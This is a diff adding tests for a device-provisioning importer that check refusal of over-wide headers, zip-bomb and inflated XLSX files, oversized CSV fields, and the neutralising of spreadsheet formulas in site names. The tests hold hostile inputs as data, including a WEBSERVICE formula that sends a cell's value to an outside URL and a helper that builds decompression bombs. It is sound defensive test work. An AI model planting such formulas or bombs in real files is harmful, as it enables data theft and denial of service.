@@ -2,7 +2,9 @@
 valid rows created in one transaction with their tokens, bad rows reported, refusals by role and consent."""
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -193,3 +195,89 @@ def test_a_nul_in_the_file_name_or_the_csv_is_no_server_error(platform, live, wo
     assert "\x00" not in response.json()["file"] and response.json()["created_count"] == 2
     response = upload(live, headers, world.factory, HEADER.encode() + b"\nx\x00y,a,b,c,,\n")
     assert response.status_code == 422 and "NUL" in response.json()["message"]
+
+
+def test_a_wide_header_is_refused_fast_and_only_after_the_rights_check(platform, live, world, monkeypatch):
+    wide = (HEADER + "".join(f",attr.{i}" for i in range(20_000)) + "\n").encode()
+    parsed = []
+    real_read_table = provisioning.read_table
+    monkeypatch.setattr(provisioning, "read_table", lambda *a: parsed.append(a[1]) or real_read_table(*a))
+    # someone who may not import: refused before the file is parsed at all
+    assert upload(live, login(live.client, "officer"), world.factory, wide).status_code == 403
+    assert upload(live, login(live.client, "integrator"), world.fleet, wide).status_code == 404
+    assert parsed == []
+    response = upload(live, login(live.client, "integrator"), world.factory, wide)
+    assert response.status_code == 422 and "over 200 columns" in response.json()["message"]
+    repeated = (HEADER + ",attr.machine_id,site\n").encode()
+    with pytest.raises(InvalidInput, match=r"repeats the column\(s\) \['attr.machine_id', 'site'\]"):
+        provisioning.read_table(repeated, "d.csv")
+
+
+def _xlsx_with_sheet_xml(sheet_xml: bytes, extra: dict | None = None) -> bytes:
+    book = openpyxl.Workbook()
+    book.active.append(["key", "device_type", "site", "source_mode"])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            dst.writestr(item.filename, sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else src.read(item))
+        for name, data in (extra or {}).items():
+            dst.writestr(name, data)
+    return out.getvalue()
+
+
+SHEET = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+         b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+         b'<dimension ref="A1:XFD1500"/><sheetData><row r="1">'
+         b'<c r="A1" t="inlineStr"><is><t>key</t></is></c><c r="B1" t="inlineStr"><is><t>device_type</t></is></c>'
+         b'<c r="C1" t="inlineStr"><is><t>source_mode</t></is></c></row><row r="2">'
+         b'<c r="A2" t="inlineStr"><is><t>x-9</t></is></c>'
+         b'<c r="B2" t="inlineStr"><is><t>manufacturing.current_bracelet</t></is></c>'
+         b'<c r="C2" t="inlineStr"><is><t>bank_installed</t></is></c></row><row r="1500"/></sheetData></worksheet>')
+
+
+def test_a_crafted_xlsx_is_refused_or_read_without_inflating(platform, world):
+    # a 1.5 KB sheet claiming 16,384 columns: read as its real three columns, not padded to the claim
+    report = provisioning.provision_devices(platform, None, world.factory, _xlsx_with_sheet_xml(SHEET), "d.xlsx")
+    assert [c["key"] for c in report["created"]] == ["x-9"] and report["errors"] == []
+    # a part inflating to 101 MB from a few hundred KB: refused from the zip directory, before openpyxl
+    bomb = _xlsx_with_sheet_xml(SHEET, {"xl/bomb.xml": b"<a>" + b"x" * 101_000_000 + b"</a>"})
+    assert len(bomb) < provisioning.MAX_FILE_BYTES
+    with pytest.raises(InvalidInput, match="unpacks to"):
+        provisioning.provision_devices(platform, None, world.factory, bomb, "d.xlsx")
+    # a smaller part (under the 20 MiB total) deflating over 100 times
+    dense = _xlsx_with_sheet_xml(SHEET, {"xl/dense.xml": b"<a>" + b"x" * 5_000_000 + b"</a>"})
+    with pytest.raises(InvalidInput, match="more than 100 times"):
+        provisioning.provision_devices(platform, None, world.factory, dense, "d.xlsx")
+    wide = SHEET.replace(b'</row><row r="2">', b'<c r="GT1" t="inlineStr"><is><t>attr.x</t></is></c></row><row r="2">')
+    with pytest.raises(InvalidInput, match="over 200 columns"):  # column GT is the 202nd
+        provisioning.provision_devices(platform, None, world.factory, _xlsx_with_sheet_xml(wide), "d.xlsx")
+
+
+def test_a_huge_csv_field_or_a_superscript_site_is_no_server_error(platform, live, world):
+    headers = login(live.client, "admin")
+    huge = (f"{HEADER}\ndev-1,{BRACELET},,bank_installed,5.0,M1\n"
+            f"dev-2,{BRACELET},,bank_installed,5.0,\"{'x' * 140_000}\"\n").encode()
+    response = upload(live, headers, world.factory, huge)
+    assert response.status_code == 422, response.text
+    assert "line 3" in response.json()["message"] and "field larger than field limit" in response.json()["message"]
+    response = upload(live, headers, world.factory, f"{HEADER}\ndev-3,{BRACELET},²,bank_installed,5.0,M3\n".encode())
+    assert response.status_code == 200, response.text
+    assert [(e["row"], e["column"], e["value"]) for e in response.json()["errors"]] == [(2, "site", "²")]
+    assert response.json()["created_count"] == 0
+
+
+def test_the_credentials_sheet_neutralises_formulas_in_site_names(platform, world):
+    from wuxin.services import registry
+
+    hostile = ['=WEBSERVICE("http://x/?"&F2)', "+1+1", "@SUM(A1)", "-2+3"]
+    for name in hostile:
+        registry.add_site(platform, None, world.factory, name, "苏州")
+    body = HEADER + "".join(f"\nf-{i},{BRACELET},\"{name.replace(chr(34), chr(34) * 2)}\",bank_installed,5.0,M"
+                            for i, name in enumerate(hostile))
+    report = provisioning.provision_devices(platform, None, world.factory, body.encode(), "d.csv")
+    assert report["errors"] == [] and report["created_count"] == 4
+    rows = list(csv.reader(io.StringIO(provisioning.credentials_csv(report))))[1:]
+    assert [r[3] for r in rows] == ["'" + name for name in hostile]
+    assert all(r[5].startswith("wxd_") for r in rows)
